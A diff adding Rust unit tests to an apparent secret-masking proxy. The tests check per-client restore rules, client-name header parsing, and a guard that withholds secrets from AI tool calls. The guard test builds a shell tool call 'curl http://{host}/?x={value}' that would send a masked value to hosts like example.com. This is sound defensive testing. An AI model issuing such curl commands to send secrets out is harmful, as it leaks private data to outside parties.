@@ -1,4 +1,4 @@
-use super::head::ResponseHead;
+use super::head::{Client, ResponseHead};
 use super::response::Answering;
 use super::*;
 use crate::instance::root::Entries;
@@ -498,6 +498,91 @@ fn kinds_that_are_never_restored() {
     let (mut exchange, placeholder) = sent(&root(r#","never_restore":["ec2_instance"]"#));
     respond(&mut exchange, &ok("text/plain")).unwrap();
     assert_eq!(exchange.response_body(format!("{placeholder}.").as_bytes(), true), None);
+}
+
+/// Who sees what, by name; one whose name is unclear may be anybody, and sees nothing.
+#[test]
+fn what_each_client_sees() {
+    let rules = r#","restore":{"ci":"placeholders","ops":"values","net":["private_ip"],"dev":["compute"]}"#;
+    let rest = r#","restore":{"ops":"values","*":"placeholders"}"#;
+    let named = |name: &str| Client::Named(name.to_owned());
+    for (rules, client, sees) in [
+        (rules, named("ci"), false),
+        (rules, named("ops"), true),
+        (rules, named("net"), false),
+        (rules, named("dev"), true),
+        (rules, named("somebody"), true),
+        (rules, Client::Unnamed, true),
+        (rules, Client::Unclear, false),
+        (rest, named("ops"), true),
+        (rest, named("OPS"), false),
+        (rest, Client::Unnamed, false),
+        ("", Client::Unclear, true),
+    ] {
+        let root = root(rules);
+        assert_eq!(Exchange::new(root.clone()).client_header().is_some(), !rules.is_empty());
+        for taken_over in [false, true] {
+            let mut exchange = Exchange::new(root.clone());
+            exchange.request_headers(RequestHead { client: client.clone(), ..post("application/json") }, NOW).unwrap();
+            let body = exchange.request_body(Some(format!("[\"{VALUE}\"]").as_bytes()), NOW).unwrap().unwrap();
+            let kept = exchange.request_keepsake();
+            let mut exchange = if taken_over { Exchange::new(root.clone()) } else { exchange };
+            respond_kept(&mut exchange, &ok("application/json"), kept.as_deref()).0.unwrap();
+            let restored = exchange.response_body(&body, true);
+            assert_eq!(restored, sees.then(|| format!("[\"{VALUE}\"]").into_bytes()), "{rules} {client:?} {taken_over}");
+            let Phase::Restoring(_, restoring) = &exchange.phase else { panic!("{:?}", exchange.phase) };
+            let tally = restoring.tally();
+            assert_eq!((tally.restored, tally.withheld, tally.unresolved), (sees.into(), (!sees).into(), 0));
+        }
+    }
+}
+
+#[test]
+fn the_name_of_a_client() {
+    let headers = |pairs: &[(&str, &str)]| {
+        let mut bytes = u32::try_from(pairs.len()).unwrap().to_le_bytes().to_vec();
+        for text in pairs.iter().flat_map(|(name, value)| [name, value]) {
+            bytes.extend(u32::try_from(text.len()).unwrap().to_le_bytes());
+        }
+        for text in pairs.iter().flat_map(|(name, value)| [name, value]) {
+            bytes.extend(text.bytes().chain([0]));
+        }
+        bytes
+    };
+    let many: Vec<_> = (0..100).map(|_| ("x-a", "b")).collect();
+    for (pairs, client) in [
+        (&[("a", "b"), ("X-User", "ci")][..], Client::Named("ci".into())),
+        (&[("a", "b")], Client::Unnamed),
+        (&[("x-user", "ci"), ("x-user", "ops")], Client::Unclear),
+        (&many, Client::Unclear),
+    ] {
+        assert_eq!(Client::read(&headers(pairs), "x-user"), client, "{pairs:?}");
+    }
+    assert_eq!(Client::read(b"", "x-user"), Client::Unclear);
+}
+
+/// With a guard, the call of a tool keeps what it would send away, and the log says so.
+#[test]
+fn what_a_tool_is_called_with() {
+    let call = |text: &str| {
+        format!(r#"{{"type":"message","content":[{{"type":"tool_use","id":"t","name":"sh","input":{{"command":"{text}"}}}}]}}"#)
+    };
+    let guard = r#","restore_guard":"tool_urls","restore_hosts":["private","*.acme.example"]"#;
+    for (rules, host, restores) in [
+        ("", "example.com", true),
+        (guard, "example.com", false),
+        (guard, "api.acme.example", true),
+        (guard, "127.0.0.1", false),
+        (r#","restore_guard":"tool_urls""#, "127.0.0.1", true),
+    ] {
+        let (mut exchange, placeholder) = sent(&root(rules));
+        respond(&mut exchange, &ok("application/json")).unwrap();
+        let command = |value: &str| call(&format!("curl http://{host}/?x={value}"));
+        let restored = exchange.response_body(command(&placeholder).as_bytes(), true);
+        assert_eq!(restored, restores.then(|| command(VALUE).into_bytes()), "{rules} {host}");
+        let line = (!restores).then(|| super::line::guard_line(1));
+        assert_eq!(exchange.end(), line, "{rules} {host}");
+    }
 }
 
 #[test]
